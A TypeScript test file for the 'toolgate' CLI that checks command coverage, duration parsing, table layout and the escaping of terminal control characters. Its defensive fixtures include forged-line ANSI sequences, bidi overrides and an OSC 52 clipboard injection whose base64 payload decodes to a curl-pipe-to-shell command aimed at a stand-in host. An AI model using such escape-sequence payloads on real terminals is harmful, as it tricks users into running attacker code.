import type { Command } from 'commander';
import { describe, expect, it, vi } from 'vitest';
import { parseDuration, parseSecondsOrDuration, record, table } from '../src/cli/toolgate/format.js';
import { toolgateProgram } from '../src/cli/toolgate/program.js';
import { jsonText, printable, printableLines } from '../src/cli/toolgate/terminal.js';

const everyCommand = (cmd: Command, path: string[] = []): Array<{ path: string; cmd: Command }> => [
  { path: [...path, cmd.name()].join(' '), cmd },
  ...cmd.commands.flatMap((child) => everyCommand(child, [...path, cmd.name()])),
];

function helpOf(cmd: Command): string {
  let text = '';
  cmd.configureOutput({ writeOut: (chunk) => (text += chunk), writeErr: (chunk) => (text += chunk) });
  cmd.outputHelp();
  return text;
}

describe('toolgate --help', () => {
  const commands = everyCommand(toolgateProgram());

  it('has a command for everything an operator does with the API', () => {
    const paths = commands.map((c) => c.path);
    for (const expected of [
      'toolgate tools register',
      'toolgate tools list',
      'toolgate tools show',
      'toolgate tools deprecate',
      'toolgate grants create',
      'toolgate grants list',
      'toolgate grants show',
      'toolgate grants revoke',
      'toolgate grants renew',
      'toolgate grants resolve',
      'toolgate switches arm',
      'toolgate switches disarm',
      'toolgate switches list',
      'toolgate switches decide',
      'toolgate budgets create',
      'toolgate budgets list',
      'toolgate budgets show',
      'toolgate budgets update',
      'toolgate budgets delete',
      'toolgate policy get',
      'toolgate policy set',
      'toolgate approvals list',
      'toolgate approvals approve',
      'toolgate approvals reject',
      'toolgate runs list',
      'toolgate runs show',
      'toolgate runs cancel',
      'toolgate runs kill',
      'toolgate runs pause',
      'toolgate runs resume',
      'toolgate audit tail',
      'toolgate audit verify',
      'toolgate audit checkpoint',
      'toolgate audit checkpoints',
      'toolgate token',
    ]) {
      expect(paths).toContain(expected);
    }
  });

  it('shows an example on every level', () => {
    const without = commands
      .filter(({ cmd }) => !/\nExamples?:\n {2}\$ .*toolgate /.test(helpOf(cmd)))
      .map((c) => c.path);
    expect(without).toEqual([]);
  });
});

describe('durations', () => {
  it('take a unit, so that `--ttl 7` is never read as seven seconds by surprise', () => {
    expect(parseDuration('90s')).toBe(90);
    expect(parseDuration('15m')).toBe(900);
    expect(parseDuration('12h')).toBe(43_200);
    expect(parseDuration('7d')).toBe(604_800);
    expect(parseDuration('2w')).toBe(1_209_600);
    for (const bad of ['7', '0d', '-1d', '1.5h', '7 days', 'P7D', ''])
      expect(() => parseDuration(bad)).toThrow(/expected a duration/);
  });

  it('are seconds when bare for `token --ttl`, as `npm run token` always took them', () => {
    expect(parseSecondsOrDuration('3600')).toBe(3600);
    expect(parseSecondsOrDuration('1h')).toBe(3600);
  });
});

describe('tables', () => {
  it('align columns, show nothing as -, and objects as JSON', () => {
    expect(
      table(
        ['ID', 'STATUS', 'BY'],
        [
          ['grt_1', 'live', { actor_id: 'a' }],
          ['grt_22', null, undefined],
        ],
      ),
    ).toBe(['ID      STATUS  BY', 'grt_1   live    {"actor_id":"a"}', 'grt_22  -       -'].join('\n'));
  });
});

describe('what reaches a terminal', () => {
  // Erase the line, go up one and write over it; set the clipboard (OSC 52); CSI as one C1 byte;
  // a right-to-left override; a newline and a carriage return.
  const forgedId = 'web.fetch\u001b[2K\u001b[1A\rforged';
  const clipboard = 'r\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
  const reversed = 'copy \u009b31m \u202eevil\nsecond line\u007f';
  // Any control character but the newlines between lines.
  const raw = /[^\n\P{Cc}]|\p{Bidi_Control}/u;

  it('is escaped in tables and records: every value stays on its line, no control character is obeyed', () => {
    const rows = table(['ID', 'REASON', 'COPY'], [[forgedId, clipboard, reversed]]);
    expect(rows).not.toMatch(raw);
    expect(rows.split('\n')).toHaveLength(2);
    expect(rows).toContain('web.fetch\\u001b[2K\\u001b[1A\\rforged');
    expect(rows).toContain('r\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007');
    expect(rows).toContain('copy \\u009b31m \\u202eevil\\nsecond line\\u007f');
    const fields = record({ tool_id: forgedId, reason: clipboard, details: { copy: reversed } });
    expect(fields).not.toMatch(raw);
    expect(fields.split('\n')).toHaveLength(3);
  });

  it("never shows a URL's user and password", () => {
    expect(printable('cannot reach the gateway at http://alice:s3cret@127.0.0.1:1/tools: ECONNREFUSED')).toBe(
      'cannot reach the gateway at http://***@127.0.0.1:1/tools: ECONNREFUSED',
    );
    expect(table(['URL'], [['https://a@b:c@backend.example/x?to=me@here']])).toBe(
      'URL\nhttps://***@backend.example/x?to=me@here',
    );
    expect(printable('mailto:ops@example.com https://example.com/@team')).toBe(
      'mailto:ops@example.com https://example.com/@team',
    );
  });

  it('is escaped in usage errors, which quote the arguments a script may have taken from anywhere', async () => {
    let written = '';
    const write = vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => {
      written += String(chunk);
      return true;
    });
    try {
      await expect(
        toolgateProgram().parseAsync(['node', 'toolgate', 'tools', 'list', `--x${clipboard}`]),
      ).rejects.toThrow();
    } finally {
      write.mockRestore();
    }
    expect(written).toContain("unknown option '--xr\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007'");
    expect(written).not.toMatch(raw);
  });

  it('keeps the lines a command makes, and escapes what is inside them', () => {
    expect(printableLines(`stopped by ks_1: "${clipboard}"\n\nID`)).toBe(
      'stopped by ks_1: "r\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007"\n\nID',
    );
  });

  it('leaves --json the same JSON value, with C1, DEL and bidi controls escaped as JSON.stringify does not', () => {
    const value = { id: forgedId, reason: clipboard, copy: reversed, nested: [{ at: '\u2028' }] };
    expect(JSON.stringify(value)).toMatch(/[\u009b\u202e\u007f]/);
    const text = jsonText(value, 2);
    expect(text).not.toMatch(raw);
    expect(text).not.toContain('\u2028');
    expect(JSON.parse(text)).toEqual(value);
  });
});
